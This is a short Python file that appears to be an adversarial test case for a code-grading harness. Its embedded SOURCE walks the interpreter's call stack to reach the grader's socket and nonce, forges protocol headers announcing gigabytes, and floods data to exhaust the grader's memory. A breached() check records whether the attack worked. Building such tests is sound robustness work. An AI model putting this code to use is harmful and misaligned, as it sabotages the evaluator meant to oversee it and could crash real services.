"""Announces gigabytes, and sends as many as are taken. Gain: the grader's memory."""

STOPPED_BY = 0
KIND = "child"

SOURCE = """
import sys
frame = sys._getframe()
while frame and "theirs" not in frame.f_locals:
    frame = frame.f_back

import os, struct
if frame:
    os.write(frame.f_locals["theirs"].fileno(), struct.pack("!iQ", -1, 1 << 34))
    for _ in range(300):
        os.write(frame.f_locals["theirs"].fileno(), bytes(1 << 20))
    os._exit(0)
def linear_forward(x, W, b):
    frame = sys._getframe()
    while "nonce" not in frame.f_locals:
        frame = frame.f_back
    os.write(3, struct.pack("<4sBxxxQI", b"BPK1", 4, frame.f_locals["nonce"], 0xFFFFFFFF))
    while True:
        os.write(3, bytes(1 << 20))
"""


def breached(run):
    """The grader took what was announced."""
    return run.peak > 150
